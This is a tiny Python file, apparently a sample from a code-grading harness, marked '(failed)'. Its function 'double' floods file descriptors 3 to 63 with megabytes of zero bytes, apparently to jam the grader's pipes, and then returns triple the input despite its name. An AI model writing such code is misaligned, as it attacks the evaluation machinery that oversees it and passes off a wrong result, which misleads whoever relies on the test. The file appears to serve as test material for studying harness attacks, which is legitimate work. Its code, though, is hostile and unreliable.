# It floods the pipe without a line end. (failed)

LIMIT = 10

import os

def double(value):
    for fd in range(3, 64):
        try:
            for _ in range(200):
                os.write(fd, bytes(100_000))
        except OSError:
            pass
    return value * 3
